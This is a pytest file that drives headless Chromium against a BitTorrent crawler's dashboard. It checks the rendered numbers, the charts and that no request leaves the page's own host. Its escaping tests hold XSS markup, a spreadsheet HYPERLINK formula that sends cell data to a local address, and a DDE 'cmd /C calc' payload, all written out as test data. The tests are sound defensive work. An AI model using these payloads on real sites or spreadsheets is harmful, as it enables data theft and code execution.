"""The dashboard in a real headless browser (Debian's chromium + chromium-driver, via selenium).

``peercrawl dashboard`` runs as a subprocess on data recorded by the real
Recorder and Queue; chromium loads each page, the map and charts must draw
(canvas pixels), and the numbers read from the DOM must equal what
``peercrawl stats --json`` / ``status --json`` print. Every request the
browser makes must go to the dashboard itself (no CDN). Screenshots are
written to ``tests/artifacts/`` (git-ignored) and the test's tmp dir.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

import geo
from crawler.counters import Recorder
from tests.cli import run
from tests.dashboard_data import HASHES, WORLD, record_world, stats_json
from tests.mmdb import write_city_db
from tests.test_dashboard_hardening import POISON, SECRETS, harden

pytestmark = pytest.mark.slow

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMEDRIVER = shutil.which("chromedriver") or "/usr/bin/chromedriver"
ARTIFACTS = Path(__file__).parent / "artifacts"
FLAGS = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--disable-dev-shm-usage", "--window-size=1400,1000")


@pytest.fixture
def dashboard(client, keys, settings, test_env, tmp_path):
    """``peercrawl dashboard --port 0`` on recorded data; yields its base URL."""
    record_world(client, keys, settings, tmp_path)
    proc = subprocess.Popen([sys.executable, "-m", "crawler", "dashboard", "--port", "0"], env=test_env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    found: list[str] = []
    ready = threading.Event()

    def read():
        for line in proc.stderr:
            m = re.search(r"peercrawl dashboard: (http://\S+)", line)
            if m and not found:
                found.append(m.group(1).rstrip("/"))
                ready.set()

    threading.Thread(target=read, daemon=True).start()
    try:
        assert ready.wait(30), "the dashboard printed no address"
        yield found[0]
    finally:
        proc.terminate()
        try:
            proc.wait(10)
        except subprocess.TimeoutExpired:  # pragma: no cover
            proc.kill()
            proc.wait()


@pytest.fixture
def browser(tmp_path):
    if not (os.path.exists(CHROMIUM) and os.path.exists(CHROMEDRIVER)):
        pytest.fail("chromium and chromium-driver are needed (Debian packages; .ci/run installs them)")
    os.environ.setdefault("SE_OFFLINE", "true")  # selenium must not try to download a driver
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    opts = webdriver.ChromeOptions()
    opts.binary_location = CHROMIUM
    for f in FLAGS:
        opts.add_argument(f)
    opts.add_argument(f"--user-data-dir={tmp_path / 'chromium-profile'}")
    opts.set_capability("goog:loggingPrefs", {"performance": "ALL", "browser": "ALL"})
    d = webdriver.Chrome(service=Service(CHROMEDRIVER), options=opts)
    d.set_page_load_timeout(30)
    try:
        yield d
    finally:
        d.quit()


def stats(env, *args) -> list[tuple]:
    return stats_json(env, *args)


def wait_rendered(d, at_least: int = 1, timeout: float = 20, month: str = "") -> None:
    """Wait until the page drew its data ``at_least`` times, the last time for ``month`` ("" lifetime)."""
    end = time.time() + timeout
    while time.time() < end:
        n, shown = d.execute_script("return [Number(document.body.dataset.rendered || 0), document.body.dataset.month]")
        if n >= at_least and (shown or "") == month:
            return
        time.sleep(0.1)
    shown = d.execute_script("return document.getElementById('updated').textContent")
    raise AssertionError(f"page did not render: {shown}")


def dom_counts(d, table: str) -> list[tuple]:
    """(data-metric, the count as the page shows it) of each row of a counters table."""
    rows = d.execute_script(
        "return Array.from(document.querySelectorAll(`table[data-table='${arguments[0]}'] tbody tr`))"
        ".map(tr => [tr.dataset.metric, Number(tr.querySelector('td.count').textContent)])", table)
    return [tuple(r) for r in rows]


def painted_colours(d, chart_id: str) -> int:
    """Distinct colours drawn on a chart's canvas (a blank canvas has one or none)."""
    return d.execute_script("""
        const c = document.querySelector('#' + arguments[0] + ' canvas');
        if (!c) return 0;
        const px = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
        const seen = new Set();
        for (let i = 0; i < px.length; i += 64) seen.add(px[i] + ',' + px[i+1] + ',' + px[i+2] + ',' + px[i+3]);
        return seen.size;""", chart_id)


def figure(d, key: str) -> str:
    return d.execute_script(
        "return document.querySelector(`[data-key='${arguments[0]}'] dd`).textContent", key)


def rows_shown(d, table: str) -> list[dict]:
    """The cells of a rows table as the page shows them, by their data-key."""
    return d.execute_script(
        "return Array.from(document.querySelectorAll(`table[data-table='${arguments[0]}'] tbody tr`))"
        ".map(tr => Object.fromEntries(Array.from(tr.querySelectorAll('td[data-key]'))"
        ".map(td => [td.dataset.key, td.textContent])))", table)


def shot(d, tmp_path: Path, name: str) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    for where in (ARTIFACTS, tmp_path):
        d.save_screenshot(str(where / f"dashboard-{name}.png"))


def requested_hosts(d) -> set[str]:
    hosts = set()
    for entry in d.get_log("performance"):
        msg = json.loads(entry["message"])["message"]
        if msg.get("method") == "Network.requestWillBeSent":
            url = msg["params"]["request"]["url"]
            m = re.match(r"^(?:https?|wss?)://([^/]+)", url)  # not chrome:// nor data:
            if m:
                hosts.add(m.group(1))
    return hosts


def test_pages_render_and_show_the_numbers_of_stats(dashboard, browser, test_env, tmp_path, client, keys, settings):
    from selenium.webdriver.support.ui import Select

    d, base = browser, dashboard
    host = base.split("//", 1)[1]

    # landing page: the map draws, the top countries and torrents equal stats
    d.get(base + "/")
    wait_rendered(d)
    time.sleep(0.5)  # let ECharts paint its canvas
    assert painted_colours(d, "map") > 5
    assert dom_counts(d, "countries") == stats(test_env, "countries", "--limit", "1000")
    assert dom_counts(d, "torrents") == stats(test_env, "torrents")
    assert "Not on the map: Singapore (2)" in d.find_element("id", "unmapped").text
    assert not d.find_element("id", "empty-hint").is_displayed()
    shot(d, tmp_path, "map")

    # the same for one month, chosen in the page
    Select(d.find_element("id", "month")).select_by_value("2026-05")
    wait_rendered(d, 2, month="2026-05")
    assert dom_counts(d, "countries") == stats(test_env, "countries", "--limit", "1000", "--month", "2026-05")
    assert dom_counts(d, "torrents") == stats(test_env, "torrents", "--month", "2026-05")
    assert "month=2026-05" in d.current_url

    # a country: users, cities, postcodes, the months chart
    d.get(base + "/country/United%20States")
    wait_rendered(d)
    time.sleep(0.5)
    assert d.find_element("id", "users").text == str(stats(test_env, "countries", "--country", "United States")[0][1])
    assert dom_counts(d, "cities") == stats(test_env, "cities", "--country", "United States")
    assert dom_counts(d, "postcodes") == stats(test_env, "postcodes", "--country", "United States")
    assert painted_colours(d, "cities-chart") > 3 and painted_colours(d, "months-chart") > 3
    shot(d, tmp_path, "country")

    # month by month, largest countries
    d.get(base + "/months")
    wait_rendered(d)
    time.sleep(0.5)
    assert painted_colours(d, "months-chart") > 3
    for metric, count in dom_counts(d, "months"):
        assert [(metric, count)] == stats(test_env, "countries", "--country", metric.split(".")[1],
                                          "--month", metric.rsplit(".", 1)[1])
    shot(d, tmp_path, "months")

    # a torrent: its figures equal `torrent --json`, its countries equal stats
    h = HASHES[0]
    d.get(f"{base}/torrent/{h}")
    wait_rendered(d)
    time.sleep(0.5)
    info = json.loads(run(test_env, "torrent", h, "--json").stdout)
    for k in ("state", "seeders", "leechers", "visits", "score", "reported_last_visit", "counted_30_days"):
        assert figure(d, k) == str(info[k]), k
    # its last visit counted 10 + n of the 25 + 2n reported (n: its place in the claim)
    assert figure(d, "coverage") == f"{100 * info['coverage']:.1f} %" and 0.4 <= info["coverage"] < 0.5
    assert figure(d, "users") == str(stats(test_env, "torrents", "--torrent", h)[0][1])
    assert dom_counts(d, "countries") == stats(test_env, "countries", "--torrent", h, "--limit", "1000")
    assert dom_counts(d, "cities") == stats(test_env, "cities", "--torrent", h)
    assert painted_colours(d, "countries-chart") > 3
    peers = d.execute_script("return Array.from(document.querySelectorAll(\"table[data-table='visits'] tbody tr\"))"
                             ".map(tr => tr.querySelector(\"td[data-key='peers']\").textContent)")
    assert peers == [str(v["peers"]) for v in reversed(info["history"])]
    assert painted_colours(d, "visits-chart") > 1
    shot(d, tmp_path, "torrent")

    # operators: the figures of status --json, the hardening's included (no tracker secret on the page)
    harden(client, keys, settings, tmp_path)
    d.get(base + "/operators")
    wait_rendered(d)
    time.sleep(0.5)
    status = json.loads(run(test_env, "status", "--json").stdout)
    for k in ("tracked", "ready", "cooling", "in_flight", "quarantined", "evicted", "at_risk", "visits_last_hour"):
        assert figure(d, k) == str(status[k]), k
    lanes = d.execute_script(
        "return Array.from(document.querySelectorAll(`table[data-table='lanes'] tbody tr`))"
        ".map(tr => Array.from(tr.cells).map(td => td.textContent))")
    assert lanes == [[lane] + [str(status["lanes"][lane][s]) for s in ("ready", "cooling", "in_flight",
                                                                       "quarantined", "evicted")]
                     for lane in ("high", "normal", "low", "discovered")]  # in the order claims serve them
    assert figure(d, "geo_errors") == str(status["geo_errors"]["errors"]) == "3"
    assert status["geo_errors"]["last"] in d.find_element("id", "geo-error").text
    trackers = rows_shown(d, "trackers")
    assert {r["tracker"] for r in trackers} == set(status["trackers"])
    for r in trackers:
        t = status["trackers"][r["tracker"]]
        for k in ("answers", "failures", "refusals", "last_refusal", "peers_cut", "learned_cap"):
            assert r[k] == ("–" if t[k] is None else str(t[k]).lower()), (r["tracker"], k)
    quarantined = d.execute_script(
        "return Array.from(document.querySelectorAll(`table[data-table='quarantined'] tbody tr`))"
        ".map(tr => Array.from(tr.cells).map(td => td.textContent))")
    assert [(q[0], q[2]) for q in quarantined] == [
        (x["info_hash"], x["reason"]) for x in status["quarantined_torrents"]] and quarantined[0][0] == POISON
    for secret in SECRETS:
        assert secret not in d.page_source, secret
    assert painted_colours(d, "minutes-chart") > 3 and painted_colours(d, "states-chart") > 3
    shot(d, tmp_path, "operators")
    d.execute_script("document.querySelector(`table[data-table='trackers']`).scrollIntoView()")
    assert d.execute_script("return document.documentElement.scrollWidth <= window.innerWidth")  # wraps, no h-scroll
    shot(d, tmp_path, "operators-trackers")

    # it refreshes itself: a visit recorded now shows up without reloading
    d.get(base + "/")
    wait_rendered(d)
    rec = Recorder(client, keys, settings, geo.open_locator(write_city_db(tmp_path / "again.mmdb", WORLD)))
    assert rec.record_visit(HASHES[2], ["5.5.5.77", "5.5.5.78"], time.time()) == 2
    want = stats(test_env, "countries", "--limit", "1000")
    assert ("countries.Japan.users", 7) in want
    end = time.time() + 15
    while dom_counts(d, "countries") != want and time.time() < end:
        time.sleep(0.2)
    assert dom_counts(d, "countries") == want

    # everything came from the dashboard itself
    assert requested_hosts(d) <= {host}, requested_hosts(d)
    errors = [e for e in d.get_log("browser") if e["level"] == "SEVERE"]
    assert not errors, errors


# Markup a third party or an address could carry: rendered, it would add elements the page never made.
MARKUP = '<h1 id="big">reflected</h1><form id="evil" action="http://127.0.0.1:1/"><input name="q"></form>'
CITY = '<img id="pwn" src="/pwned-city">City'
POSTCODE = '<form id="pwnform"><input name="p"></form>'
REFUSAL_MESSAGE = '<b id="pwnb">unregistered</b><img id="pwn2" src="/pwned-refusal">'
FORMULA_CITY = '=HYPERLINK("http://127.0.0.1:1/?leak="&A1,"open")'
FORMULA_POSTCODE = "-2+3+cmd|' /C calc'!A0"


def injected(d) -> list[str]:
    """Elements the markup above would have made, if any rendered."""
    return d.execute_script(
        "return Array.from(document.querySelectorAll('form, #big, #pwn, #pwn2, #pwnb, #pwnform'))"
        ".map(e => e.outerHTML)")


def test_error_answers_show_markup_as_text(dashboard, browser):
    from urllib.parse import quote

    d, m = browser, quote(MARKUP)
    for path in (f"/api/overview?month={m}", f"/api/operators?hours={m}", f"/api/overview?format=csv&table={m}",
                 f"/api/overview?limit={m}", f"/nowhere/{m}", f"/torrent/{m}"):
        d.get(dashboard + path)
        assert d.execute_script("return document.contentType") == "text/plain", path
        assert injected(d) == [], path
    d.get(dashboard + f"/api/overview?month={m}")
    assert 'reflected</h1><form id="evil"' in d.find_element("tag name", "body").text  # shown, as text
    # the page itself, asked for a bad month, says why as text
    d.get(dashboard + f"/?month={m}")
    end = time.time() + 15
    while "update failed" not in d.find_element("id", "updated").text and time.time() < end:
        time.sleep(0.1)
    assert "not a YYYY-MM month" in d.find_element("id", "updated").text
    assert injected(d) == []


def test_third_party_names_are_text_in_the_page(dashboard, browser, client, keys, settings, tmp_path):
    """A GeoIP city, postcode and a tracker's refusal holding markup show as text in tables and charts."""
    from crawler.sources.trackers.health import REFUSAL, TrackerHealth

    d = browser
    rec = Recorder(client, keys, settings, geo.open_locator(
        write_city_db(tmp_path / "markup.mmdb", {"21.0.1.0/24": ("Germany", CITY, POSTCODE),
                                                 "21.0.2.0/24": ("Germany", FORMULA_CITY, FORMULA_POSTCODE)})))
    assert rec.record_visit(HASHES[0], [f"21.0.1.{i}" for i in range(1, 31)], time.time()) == 30
    assert rec.record_visit(HASHES[0], [f"21.0.2.{i}" for i in range(1, 21)], time.time()) == 20
    health = TrackerHealth(client, keys, flush=0.0)
    health.record("http://127.0.0.1:6969/announce", REFUSAL, message=REFUSAL_MESSAGE)
    health.flush()

    d.get(dashboard + "/country/Germany")
    wait_rendered(d)
    names = d.execute_script("return Array.from(document.querySelectorAll("
                             "\"table[data-table='cities'] td.name, table[data-table='postcodes'] td.name\"))"
                             ".map(td => td.textContent)")
    assert {CITY, POSTCODE, FORMULA_CITY, FORMULA_POSTCODE} <= set(names)  # as GeoIP spells them
    # the page's own CSV links: a spreadsheet reads the formula names as text (a leading ')
    for table, name in (("cities", FORMULA_CITY), ("postcodes", FORMULA_POSTCODE)):
        text = d.execute_script("return fetch(document.querySelector(`a.csv[data-table='${arguments[0]}']`).href)"
                                ".then(r => r.text())", table)
        cells = {row["name"] for row in csv.DictReader(io.StringIO(text))}
        assert "'" + name in cells and name not in cells, (table, cells)
    # every bar's tooltip (ECharts' own, HTML) shows the names escaped
    for chart_id in ("cities-chart", "postcodes-chart"):
        bars = d.execute_script("return echarts.getInstanceByDom(document.getElementById(arguments[0]))"
                                ".getOption().yAxis[0].data", chart_id)
        assert CITY in bars or POSTCODE in bars
        for i in range(len(bars)):
            d.execute_script("echarts.getInstanceByDom(document.getElementById(arguments[0]))"
                             ".dispatchAction({type: 'showTip', seriesIndex: 0, dataIndex: arguments[1]})", chart_id, i)
            time.sleep(0.05)
            assert injected(d) == [], (chart_id, bars[i])
        tip = d.execute_script("return Array.from(document.querySelectorAll('#' + arguments[0] + ' div'))"
                               ".map(e => e.textContent).join(' ')", chart_id)
        assert CITY in tip or POSTCODE in tip, tip
    d.get(f"{dashboard}/torrent/{HASHES[0]}")
    wait_rendered(d)
    assert f"{CITY}, Germany" in d.execute_script(
        "return Array.from(document.querySelectorAll(\"table[data-table='cities'] td.name\")).map(td => td.textContent)")
    assert injected(d) == []
    # the map's tooltip (our formatter) still names the country
    d.get(dashboard + "/")
    wait_rendered(d)
    d.execute_script("echarts.getInstanceByDom(document.getElementById('map'))"
                     ".dispatchAction({type: 'showTip', seriesIndex: 0, name: 'DE'})")
    end = time.time() + 5
    tip = ""
    while "Germany: " not in tip and time.time() < end:
        tip = d.execute_script("return Array.from(document.querySelectorAll('#map div')).map(e => e.textContent).join(' ')")
        time.sleep(0.1)
    assert "Germany: 65" in tip, tip
    d.get(dashboard + "/operators")
    wait_rendered(d)
    refusals = [r["last_refusal"] for r in rows_shown(d, "trackers")]
    assert any(REFUSAL_MESSAGE in r for r in refusals), refusals
    assert injected(d) == []
    errors = [e for e in d.get_log("browser") if e["level"] == "SEVERE" and "pwned" in e["message"]]
    assert not errors, errors  # no injected image was ever requested


def test_an_empty_crawl_says_what_to_do_next(browser, test_env):
    proc = subprocess.Popen([sys.executable, "-m", "crawler", "dashboard", "--port", "0"], env=test_env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        line = ""
        while "peercrawl dashboard: http" not in line:
            line = proc.stderr.readline()
            assert line, "the dashboard printed no address"
        browser.get(re.search(r"(http://\S+)", line).group(1))
        wait_rendered(browser)
        hint = browser.find_element("id", "empty-hint")
        assert hint.is_displayed() and "peercrawl add ITEM" in hint.text, hint.text
    finally:
        proc.terminate()
        proc.wait(10)
